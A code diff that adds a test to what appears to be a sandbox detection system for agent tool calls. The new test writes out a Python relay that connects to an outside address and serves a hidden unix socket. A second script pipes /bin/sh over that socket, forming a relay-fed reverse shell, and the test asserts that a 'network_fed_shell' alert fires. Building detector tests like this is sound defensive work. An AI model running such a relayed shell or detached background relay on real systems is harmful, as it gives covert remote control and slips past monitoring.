@@ -9,7 +9,7 @@
 // process-layer one (a session keeps one alert per call and category).
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { startFixture, oneUnscreenedCall, rulesOf, type Fixture } from './helpers/lab-fixture.js';
+import { startFixture, oneUnscreenedCall, rulesOf, labPolicy, type Fixture } from './helpers/lab-fixture.js';
 import { DEMO_FAR_HOSTS } from '../src/cli/demo-scenario.js';
 
 let fx: Fixture;
@@ -213,3 +213,25 @@ for (const mode of ['fork', 'wrap', 'devstdin', 'bashfd']) {
     assert.ok(shells.every((a) => a.tool_call === 'call-1'));
   });
 }
+
+test('a shell started on a unix socket that a relay from an earlier call serves, the relay holding the connection out', async () => {
+  const relay = `import socket, time
+t = socket.create_connection(("198.51.100.10", 80), timeout=5)
+t.sendall(b"GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n")
+srv = socket.socket(socket.AF_UNIX); srv.bind("/tmp/.s"); srv.listen(1); srv.settimeout(20)
+u, _ = srv.accept()
+u.sendall(b"id -u > /workspace/proof.txt\\nexit\\n")
+time.sleep(1)
+`;
+  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'unix-relay' });
+  try {
+    const run = (step: number, command: string) => s.exec({ command, tool: 'bash', step, toolCallId: `call-${step}`, timeoutMs: 30_000, skipScreen: true, syncSensor: true });
+    assert.match((await run(1, `cat > .r.py <<'EOF'\n${relay}EOF\n(nohup python3 .r.py >/dev/null 2>&1 &); sleep 1; echo relay up`)).stdout, /relay up/);
+    const shell = await run(2, `printf '%s\\n' "import socket,subprocess" "u=socket.socket(socket.AF_UNIX); u.connect('/tmp/.s')" "subprocess.run(['/bin/sh'], stdin=u, stdout=u, stderr=u)" > .c.py; python3 .c.py; cat proof.txt`);
+    assert.equal(shell.stdout, '65534\n', 'the relayed shell ran');
+    await s.close();
+    const fed = s.alertEvents.filter((a) => a.payload.category === 'reverse_shell' && rulesOf(a).includes('network_fed_shell'));
+    assert.ok(fed.length > 0, JSON.stringify(s.alertEvents.map((a) => [a.tool_call, rulesOf(a)])));
+    assert.ok(fed.every((a) => a.tool_call === 'call-2'), 'the shell is the call that started it');
+  } finally { await s.close(); }
+});
